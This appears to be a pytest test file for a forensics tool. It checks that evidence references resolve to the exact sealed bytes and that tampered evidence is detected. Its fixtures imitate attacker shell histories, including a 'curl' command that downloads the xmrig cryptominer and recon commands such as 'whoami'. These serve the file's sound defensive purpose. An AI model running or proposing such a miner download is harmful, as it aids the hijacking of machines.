"""From a reference back to the very bytes."""

from __future__ import annotations

import gzip
import hashlib
from pathlib import Path

import pytest

from forensics import ledger, refs
from forensics.case import Case
from forensics.errors import CheckFailed, UsageFault
from forensics.intake import Options, ingest
from forensics.refs import Ref


def shown(case: Case, text: str) -> bytes:
    return b"".join(refs.pieces(case, refs.find(case, refs.parse(text))))


def id_of(case: Case, path: str) -> str:
    return next(row["source_id"] for row in ledger.load(case).sources if row["path"] == path)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a1b2c3d4e5f6#17", Ref("a1b2c3d4e5f6", 17, None)),
        ("a1b2c3d4e5f6#17.2", Ref("a1b2c3d4e5f6", 17, 2)),
        ("a" * 64 + "#1", Ref("a" * 64, 1, None)),
    ],
)
def test_references_are_read(text: str, expected: Ref) -> None:
    assert refs.parse(text) == expected
    assert str(expected) == text[:12] + text[text.index("#") :]


@pytest.mark.parametrize(
    "text", ["", "a1b2#1", "a1b2c3d4e5f6", "A1B2C3D4E5F6#1", "a1b2c3d4e5f6#x", "a1b2c3d4e5f6#1.", "#1"]
)
def test_what_is_no_reference_is_told(text: str) -> None:
    with pytest.raises(UsageFault, match="is no reference"):
        refs.parse(text)


@pytest.mark.parametrize(
    ("path", "record", "expected"),
    [
        ("copy of it", 2, b"#1772500100\ncurl -sO http://example.org/xmrig"),
        ("old.history.gz", 3, b"#1772600002\nexit"),
        ("outer.tar.gz!inner.zip!root/.bash_history", 1, b"#1772600000\nwhoami"),
        ("outer.tar.gz!inner.zip!notes.txt", 1, b"see you\n"),
        ("picture.bin", 1, bytes(range(256)) * 8),
        ("cut.history.gz", 5, b""),
    ],
)
def test_the_very_bytes_come_back(sealed, path: str, record: int, expected: bytes) -> None:
    case, _ = sealed
    assert shown(case, f"{id_of(case, path)[:12]}#{record}") == expected


def test_the_place_is_told_in_words(sealed) -> None:
    case, _ = sealed
    source_id = id_of(case, "copy of it")
    place = refs.find(case, refs.parse(f"{source_id}#2"))
    assert place.told == f"{source_id[:12]}#2 copy of it record 2, line 3, bytes 19+45 (process)"


def test_every_row_of_every_table_leads_to_its_bytes(sealed) -> None:
    import pyarrow.parquet as pq

    case, _ = sealed
    checked = 0
    for table, parts in case.tables().items():
        for part in parts if table in {"process", "quarantine"} else ():
            for row in pq.read_table(part).to_pylist():
                place = refs.find(case, Ref(row["source_id"], row["record"], row.get("part")))
                assert place.spans == ((row["offset"], row["length"]),)
                checked += 1
    assert checked > 10


def test_unknown_sources_and_records_are_told(sealed) -> None:
    case, _ = sealed
    with pytest.raises(UsageFault, match="no source that begins with"):
        refs.find(case, refs.parse("000000000000#1"))
    with pytest.raises(UsageFault, match=r"there is no record 9.*3 records"):
        refs.find(case, refs.parse(f"{id_of(case, 'copy of it')[:12]}#9"))


def test_a_beginning_that_fits_two_sources_is_told(sealed, monkeypatch: pytest.MonkeyPatch) -> None:
    case, _ = sealed
    rows = ledger.load(case)
    twin = {**rows.sources[0], "source_id": rows.sources[0]["source_id"][:20] + "0" * 44}
    rows.sources.append(twin)
    monkeypatch.setattr(ledger, "load", lambda _: rows)
    with pytest.raises(UsageFault, match="more than one source begins with"):
        refs.find(case, refs.parse(twin["source_id"][:12] + "#1"))


def test_evidence_that_changed_is_not_shown(tmp_path: Path) -> None:
    (tmp_path / "x.bash_history").write_bytes(b"#1772600000\nwhoami\n#1772600001\nid\n#1772600002\nexit\n")
    case = Case.create(tmp_path / "case")
    ingest(case, [tmp_path / "x.bash_history"], Options(workers=1))
    source_id = id_of(case, "x.bash_history")
    copy = case.root / "evidence" / source_id[:2] / source_id
    copy.chmod(0o600)
    copy.write_bytes(copy.read_bytes().replace(b"whoami", b"whoamI"))
    with pytest.raises(CheckFailed, match="not what was sealed"):
        shown(case, f"{source_id}#1")
    copy.unlink()
    with pytest.raises(CheckFailed, match="unreadable"):
        shown(case, f"{source_id}#1")


def test_evidence_in_place_is_shown_from_where_it_lies(tmp_path: Path) -> None:
    data = gzip.compress(b"#1772600000\nwhoami\n#1772600001\nid\n#1772600002\nexit\n")
    (tmp_path / "x.bash_history.gz").write_bytes(data)
    case = Case.create(tmp_path / "case")
    ingest(case, [tmp_path / "x.bash_history.gz"], Options(workers=1, in_place=True))
    assert shown(case, hashlib.sha256(data).hexdigest()[:12] + "#2") == b"#1772600001\nid"


def test_a_row_of_a_parquet_file_too_large_for_its_head_is_read_and_stands_for_itself(tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = 20_000
    table = pa.table(
        {
            "interface_id": ["eni-1"] * rows,
            "srcaddr": [f"192.0.2.{row % 256}" for row in range(rows)],
            "dstaddr": ["198.51.100.7"] * rows,
            "bytes": pa.array(range(rows), pa.int64()),
        }
    )
    pq.write_table(table, tmp_path / "part-0", row_group_size=15_000, use_dictionary=False, compression="none")
    case = Case.create(tmp_path / "case")
    ingest(case, [tmp_path / "part-0"], Options(workers=1))
    place = refs.find(case, refs.parse(f"{id_of(case, 'part-0')}#16001"))
    assert (place.table, place.spans, place.row["src_bytes"]) == ("flow", (), 16_000)
